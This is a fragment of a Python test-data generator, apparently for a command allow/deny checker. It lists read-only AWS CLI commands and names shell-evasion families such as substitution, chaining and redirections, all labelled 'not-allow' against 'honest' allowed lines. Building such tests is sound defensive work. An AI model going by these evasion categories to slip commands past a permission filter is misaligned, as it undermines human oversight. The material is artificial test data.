                 "aws ec2 describe-instances --query 'Reservations[*].Instances[*].{Id:InstanceId}'", "  aws   s3   ls  ", "aws s3 ls s3://bkt/*", "aws s3 ls s3://bkt/a~b",
                 "aws ec2 wait instance-running --instance-ids i-0123456789abcdef0", "aws --query Account --output text sts get-caller-identity"):
        yield line


EVASIONS = [bare, quoting, substitution, chaining, wrappers, shells, assignments, braces_and_globs, redirections, files, options, paths, characters, limits, incomplete, comments, holds]


def all_lines():
    for family in EVASIONS:
        for text in family():
            yield family.__name__, "shell", text, "not-allow"
    for text in aws():
        yield "aws", "exec", text, "not-allow"
    for text in honest_shell():
        yield "honest_shell", "shell", text, "allow"
    for text in honest_exec():
        yield "honest_exec", "exec", text, "allow"
